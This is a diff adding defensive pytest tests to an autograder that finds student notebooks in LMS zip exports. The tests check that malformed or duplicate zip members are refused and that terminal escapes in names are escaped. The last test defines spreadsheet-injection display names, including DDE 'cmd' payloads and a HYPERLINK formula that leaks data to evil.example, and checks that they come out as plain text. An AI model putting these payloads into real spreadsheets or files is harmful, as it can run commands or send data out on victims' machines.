@@ -1,11 +1,14 @@
 """Finding submitted notebooks: layouts, zips, LMS names, decorations, errors."""
 import csv
+import os
 import zipfile
 
 import pytest
 
 from autograder import submissions
+from autograder.spreadsheet import FORMULA_STARTS
 from course import FIRST
+from hostile_zips import make_zip_of_copies, name_bytes_marked_utf8
 from autograder.submissions import (Discovery, GradingInputError, StudentEntry, Submission,
                                     discover, sanitize_student_ids, write_student_map)
 
@@ -255,6 +258,101 @@ def test_a_file_named_zip_that_is_no_zip_is_refused(tmp_path):
         discover(fake, ONE, workdir=tmp_path / "work")
 
 
+NOT_UTF8 = "Ad\xe9le Martin_77_assignsubmission_file_/1_numpy.ipynb".encode("latin-1")
+
+
+def zip_with_a_name_marked_utf8_wrongly(path, comment=b""):
+    make_zip(path, {"bob/1_numpy.ipynb": "{}", "carol/2_cupy.ipynb": "{}"})
+    with zipfile.ZipFile(path, "a") as archive:
+        archive.comment = comment
+    return name_bytes_marked_utf8(path, "X" * len(NOT_UTF8), NOT_UTF8)
+
+
+def test_a_member_whose_name_is_marked_utf8_but_is_not_stops_zipfile(tmp_path):
+    """The attack: Python's zipfile refuses the whole archive over that one name."""
+    archive = zip_with_a_name_marked_utf8_wrongly(tmp_path / "class.zip")
+
+    with pytest.raises(UnicodeDecodeError):
+        zipfile.ZipFile(archive)
+
+
+@pytest.mark.parametrize("wrapping", ["plain", "comment", "data before", "zip64"])
+def test_a_member_whose_name_is_marked_utf8_but_is_not_is_skipped_and_named(tmp_path, wrapping,
+                                                                            monkeypatch):
+    comment = b"Downloaded from Moodle" if wrapping == "comment" else b""
+    with monkeypatch.context() as patch:
+        if wrapping == "zip64":  # the end records of a zip of more than 65535 files
+            patch.setattr(zipfile, "ZIP_FILECOUNT_LIMIT", 1)
+        archive = zip_with_a_name_marked_utf8_wrongly(tmp_path / "class.zip", comment)
+    if wrapping == "zip64":
+        assert b"PK\x06\x06" in archive.read_bytes()
+    if wrapping == "data before":  # a self-extracting archive: the zip follows a program
+        archive.write_bytes(b"MZ" + b"\0" * 500 + archive.read_bytes())
+    workdir = tmp_path / "work"
+
+    found = discover(archive, ONE, workdir=workdir)
+
+    assert submitted(found) == {("bob", CH01, "1_numpy"): "bob/1_numpy.ipynb",
+                                ("carol", CH01, "2_cupy"): "carol/2_cupy.ipynb"}
+    [warning] = warnings_about(found, "marked as UTF-8 but is not")
+    assert "'Ad\\xe9le Martin_77_assignsubmission_file_/1_numpy.ipynb'" in warning
+    assert warning.isprintable()
+    assert not [p for p in workdir.rglob("*") if "Martin" in p.name], "nothing of it is extracted"
+    if comment:
+        assert archive.read_bytes().endswith(comment)
+
+
+def test_a_member_stored_twice_is_refused_in_every_copy(tmp_path):
+    archive = make_zip_of_copies(tmp_path / "class.zip", [
+        ("alice/1_numpy.ipynb", '{"copy": 1}'), ("alice/2_cupy.ipynb", "{}"),
+        ("alice/1_numpy.ipynb", '{"copy": 2}'),
+        ("bob/1_numpy.ipynb", "{}"), ("bob\\1_numpy.ipynb", "{}"),      # one path, two separators
+        ("carol/3_pytorch.ipynb", "{}"), ("Carol/3_PyTorch.ipynb", "{}"),  # one file on macOS
+        ("dave/1_numpy.ipynb", "{}")])
+    workdir = tmp_path / "work"
+
+    found = discover(archive, ONE, workdir=workdir)
+
+    assert submitted(found) == {("alice", CH01, "2_cupy"): "alice/2_cupy.ipynb",
+                                ("dave", CH01, "1_numpy"): "dave/1_numpy.ipynb"}
+    assert ("alice", CH01, "1_numpy") in {(s.student, s.assignment, s.notebook)
+                                          for s in found.submissions if s.path is None}
+    [warning] = warnings_about(found, "stored more than once")
+    assert "skipped every copy of 3 file(s)" in warning
+    assert "'alice/1_numpy.ipynb' (2 copies)" in warning
+    assert "'bob/1_numpy.ipynb' = 'bob\\\\1_numpy.ipynb' (2 copies)" in warning
+    assert "'carol/3_pytorch.ipynb' = 'Carol/3_PyTorch.ipynb' (2 copies)" in warning
+    extracted = sorted(p.relative_to(p.parents[1]).as_posix() for p in workdir.rglob("*.ipynb"))
+    assert extracted == ["alice/2_cupy.ipynb", "dave/1_numpy.ipynb"], "no copy is extracted"
+
+
+def test_warnings_escape_control_characters_of_names(tmp_path):
+    touch(tmp_path, "alice/1_numpy.ipynb", "eve\x1b]0;pwned\x07/notes.ipynb")
+
+    found = discover(tmp_path, ONE)
+
+    [warning] = warnings_about(found, "notes.ipynb")
+    assert "eve\\x1b]0;pwned\\x07/notes.ipynb" in warning
+    assert all(w.isprintable() for w in found.warnings)
+
+
+def test_a_folder_name_that_is_not_utf8_is_graded_and_listed(tmp_path):
+    """What unzipping a zip with such a name with another tool leaves."""
+    touch(tmp_path, "bob/1_numpy.ipynb")
+    folder = os.path.join(os.fsencode(tmp_path), b"ad\xe9le")
+    os.mkdir(folder)
+    with open(os.path.join(folder, b"1_numpy.ipynb"), "w") as f:
+        f.write("{}")
+
+    found = discover(tmp_path, ONE)
+    write_student_map(found, tmp_path / "out" / "students.csv")
+
+    assert set(submitted(found)) == {("ad_le", CH01, "1_numpy"), ("bob", CH01, "1_numpy")}
+    assert all(w.isprintable() for w in found.warnings)
+    rows = list(csv.reader((tmp_path / "out" / "students.csv").open(encoding="utf-8", newline="")))
+    assert ["ad_le", "ad\\udce9le", "", "", "ad\\udce9le/1_numpy.ipynb"] in rows
+
+
 # ----------------------------------------------------------------------------- names
 
 
@@ -446,3 +544,34 @@ def test_write_student_map(tmp_path):
                     ["ada", "Ada Lovelace_1_assignsubmission_file_", "Ada Lovelace", "1",
                      "Ada/1_numpy.ipynb;Ada/3_pytorch.ipynb"],
                     ["bob", "bob", "", "", ""]]
+
+
+# Display names chosen to be run by a spreadsheet; Moodle puts them in folder names.
+HOSTILE_DISPLAY_NAMES = {"1": "=2+5+cmd|' -C calc'!A0",
+                         "2": '+HYPERLINK("evil.example?leak","open")',
+                         "3": "@SUM(1+1)cmd", "4": "-2+3+cmd|' -C notepad'!A0"}
+
+
+def test_moodle_names_that_look_like_formulas_are_text_in_the_student_map(tmp_path):
+    folders = {lms_id: f"{name}_{lms_id}_assignsubmission_file_"
+               for lms_id, name in HOSTILE_DISPLAY_NAMES.items()}
+    archive = make_zip(tmp_path / "moodle.zip", {
+        **{f"{folder}/{notebook}.ipynb": "{}" for folder in folders.values()
+           for notebook in ("1_numpy", "2_cupy")},
+        "Ada Lovelace_5_assignsubmission_file_/1_numpy.ipynb": "{}"})
+    found = discover(archive, ONE, workdir=tmp_path / "work")
+    path = tmp_path / "out" / "students.csv"
+
+    write_student_map(found, path)
+
+    with open(path, newline="", encoding="utf-8") as f:
+        rows = {row["lms_id"]: row for row in csv.DictReader(f)}
+    for lms_id, name in HOSTILE_DISPLAY_NAMES.items():
+        row = rows[lms_id]
+        assert row["original"] == "'" + folders[lms_id], "text, and the name still readable"
+        assert row["lms_name"] == "'" + name
+        assert row["files"] == f"'{folders[lms_id]}/1_numpy.ipynb;'{folders[lms_id]}/2_cupy.ipynb"
+        assert not row["student"].startswith(FORMULA_STARTS)
+    assert rows["5"]["original"] == "Ada Lovelace_5_assignsubmission_file_", "others unchanged"
+    cells = [cell for row in rows.values() for value in row.values() for cell in value.split(";")]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
